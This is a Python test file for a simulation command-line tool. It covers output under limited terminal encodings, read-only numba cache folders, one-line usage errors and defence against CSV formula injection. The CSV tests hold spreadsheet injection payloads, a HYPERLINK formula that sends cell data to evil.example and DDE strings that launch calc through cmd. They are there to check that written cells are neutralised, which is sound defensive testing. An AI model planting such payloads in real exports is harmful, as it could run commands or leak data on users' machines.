"""Environments that used to crash after the work was done (issue 20, case 6), and the smaller
promises of case 7: one-line usage errors, no spreadsheet formulas in any CSV simcore writes.
"""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import priorfiles as pf
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from simcore.cli import main

ROOT = Path(__file__).resolve().parents[2]
BASELINE = ROOT / "priors" / "baseline.toml"


def point_prior(folder: Path, **texts) -> Path:
    drivers = pf.point_drivers(alg_halving_years=pf.entry("lognormal", median=0.8, low=0.4,
                                                          high=1.6))
    drivers["alg_halving_years"].update(texts)
    return pf.write(folder / "point.toml", drivers)


# ---------------------------------------------------------------------------------------------
# Case 6: output encodings, no numba cache location


@pytest.mark.parametrize("encoding", ["latin-1", "cp437"])
def test_a_terminal_that_cannot_show_every_character_still_gets_the_answer(tmp_path, encoding):
    done = subprocess.run([sys.executable, "-m", "simcore", "run", BASELINE, "--draws", "2000",
                           "--no-charts", "--out", tmp_path / "r"], cwd=ROOT,
                          env={**os.environ, "PYTHONIOENCODING": encoding},
                          capture_output=True, timeout=300)
    assert done.returncode == 0 and done.stderr == b"", done.stderr.decode(errors="replace")
    text = done.stdout.decode(encoding)
    assert "Q5" in text and f"run written to {tmp_path / 'r'}" in text
    # the en dash of an interval such as "[1.1 years – 7.7 years]", shown as a hyphen
    assert re.search(r"\[[^\]\n]+ - [^\]\n]+\]", text), text
    assert "(\u00b1 " in text           # both encodings have the plus-minus sign


def read_only(folder: Path, mounts: list[Path]) -> None:
    """Make ``folder`` read-only even for root: a read-only bind mount of itself (root), or
    its permissions (anyone else)."""
    if os.geteuid() != 0:
        for path in [folder, *folder.rglob("*")]:
            path.chmod(path.stat().st_mode & ~0o222)
        return
    for command in (["mount", "--bind", folder, folder],
                    ["mount", "-o", "remount,bind,ro", folder]):
        done = subprocess.run(command, capture_output=True, text=True)
        if done.returncode != 0:
            pytest.skip(f"cannot make a read-only folder for root here: {done.stderr.strip()}")
        if command[1] == "--bind":
            mounts.append(folder)


@pytest.fixture()
def mounts():
    made: list[Path] = []
    yield made
    for folder in reversed(made):
        subprocess.run(["umount", "-l", folder], check=False)


@pytest.mark.slow
def test_no_numba_cache_location_compiles_for_the_run_with_a_one_line_note(tmp_path, mounts):
    install, home = tmp_path / "install", tmp_path / "home"
    shutil.copytree(ROOT / "simcore", install / "simcore",
                    ignore=shutil.ignore_patterns("__pycache__"))
    home.mkdir()
    read_only(install, mounts)
    read_only(home, mounts)
    # A temporary folder of its own: other processes on the machine make and remove their
    # private caches in the shared one meanwhile.
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    env = {k: v for k, v in os.environ.items()
           if k not in ("NUMBA_CACHE_DIR", "XDG_CACHE_HOME", "MPLCONFIGDIR")}
    env.update(HOME=str(home), PYTHONPATH=str(install), PYTHONDONTWRITEBYTECODE="1",
               TMPDIR=str(temporary))
    done = subprocess.run([sys.executable, "-m", "simcore", "run", BASELINE, "--draws", "300",
                           "--no-charts", "--out", tmp_path / "r", "-q"], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    lines = done.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("note: numba cannot keep compiled code"), lines
    assert "NUMBA_CACHE_DIR" in lines[0]
    assert (tmp_path / "r" / "manifest.json").is_file()
    assert list(temporary.iterdir()) == []          # the private cache removed at exit


def folders_with_cached_code() -> dict[str, list[str]]:
    """Each package folder (relative to the package) -> its modules defining functions numba
    caches beside their sources."""
    folders: dict[str, list[str]] = {}
    for path in sorted((ROOT / "simcore").rglob("*.py")):
        if "cache=True" in path.read_text():
            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            folders.setdefault(str(path.parent.relative_to(ROOT / "simcore")), []).append(module)
    return folders


@pytest.mark.parametrize("folder", sorted(folders_with_cached_code()))
def test_any_one_read_only_folder_of_compiled_code_is_noticed(tmp_path, mounts, folder):
    """Whichever subpackage holds compiled functions (modules move between them), one that
    numba cannot cache beside is noticed before they are defined, not by a crash at import."""
    install, home = tmp_path / "install", tmp_path / "home"
    shutil.copytree(ROOT / "simcore", install / "simcore",
                    ignore=shutil.ignore_patterns("__pycache__"))
    home.mkdir()
    read_only(install / "simcore" / folder, mounts)
    read_only(home, mounts)
    modules = folders_with_cached_code()[folder]
    code = ("import importlib, simcore.base.numbacache as cache; "
            f"[importlib.import_module(m) for m in {modules!r}]; print(cache.NOTE)")
    env = {k: v for k, v in os.environ.items()
           if k not in ("NUMBA_CACHE_DIR", "XDG_CACHE_HOME", "MPLCONFIGDIR")}
    env.update(HOME=str(home), PYTHONPATH=str(install), PYTHONDONTWRITEBYTECODE="1")
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    assert done.stdout.startswith("numba cannot keep compiled code"), done.stdout


# ---------------------------------------------------------------------------------------------
# Case 7: click's usage errors in one line


@pytest.mark.parametrize("args", [["run", "--draws", "0"], ["run", "--bogus"],
                                  ["sensitivity", "--method", "nope"], ["report"],
                                  ["plot", "--dpi", "5", "x"], ["compare"], ["nosuchcommand"],
                                  ["run", "--seed", "-1"]])
def test_usage_errors_are_one_line_exit_2(args):
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "--help" in lines[0] and "Traceback" not in result.output


def test_help_and_version_are_not_errors():
    for args in (["--help"], ["run", "--help"], ["--version"]):
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 0 and result.stderr == "", result.output
        assert result.stdout.strip()


# ---------------------------------------------------------------------------------------------
# Case 7: CSV cells a spreadsheet would run as formulas


HOSTILE = {"rationale": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
           "description": "+cmd|' /C calc'!A0", "unit": "-2+3", "sources": [
               {**pf.SOURCE, "title": "@SUM(1+1)*cmd|' /C calc'!A0"}]}


def test_prior_text_never_reaches_a_csv_as_a_formula(tmp_path):
    plain = tmp_path / "plain"
    hostile = tmp_path / "hostile"
    plain.mkdir()
    hostile.mkdir()
    runs = []
    for folder, texts in ((plain, {}), (hostile, HOSTILE)):
        prior = point_prior(folder, **texts)
        out = folder / "run"
        result = CliRunner().invoke(main, ["run", str(prior), "--draws", "300", "--no-charts",
                                           "--out", str(out), "-q"])
        assert result.exit_code == 0, result.output
        runs.append(out)
    result = CliRunner().invoke(main, ["compare", *map(str, runs), "--out",
                                       str(tmp_path / "cmp")])
    assert result.exit_code == 0, result.output
    changes = pd.read_csv(tmp_path / "cmp" / "prior_changes.csv", dtype=str,
                          keep_default_na=False)
    assert set(changes["field"]) >= {"rationale", "description", "unit", "sources"}
    written = changes[["baseline_value", "value"]].to_numpy().ravel()
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written), \
        written
    assert "'=HYPERLINK(" in set(changes["value"].str[:12])
    # Numbers stay numbers: compare.csv's shifts, negative or not, read back as floats.
    shifts = pd.read_csv(tmp_path / "cmp" / "compare.csv")
    assert pd.api.types.is_float_dtype(shifts["shift"])
    for out in [*runs, tmp_path / "cmp"]:
        for table in out.glob("*.csv"):
            cells = pd.read_csv(table, dtype=str, keep_default_na=False).to_numpy().ravel()
            for cell in cells:
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    float(cell)        # only a number may start so


@given(st.text(max_size=30))
def test_a_text_cell_never_starts_a_formula_and_a_number_is_kept(text):
    from simcore.base.csvfiles import FORMULA_START, neutralised

    cell = neutralised(text)
    if cell.startswith(FORMULA_START):
        float(cell)                        # a number written as text: data, not a formula
    assert cell in (text, "'" + text)
    assert (cell == text) == (not text.startswith(FORMULA_START) or cell.startswith(
        FORMULA_START))


@given(st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=30))
def test_csv_text_neutralises_text_columns_only(text):
    from simcore.base.csvfiles import csv_text, neutralised

    frame = pd.DataFrame({"text": [text], "number": [-0.5], "integer": [-3]})
    written = pd.read_csv(io.StringIO(csv_text(frame)), dtype=str, keep_default_na=False)
    assert written["text"].iloc[0] == neutralised(text)
    assert written["number"].iloc[0] == "-0.5" and written["integer"].iloc[0] == "-3"
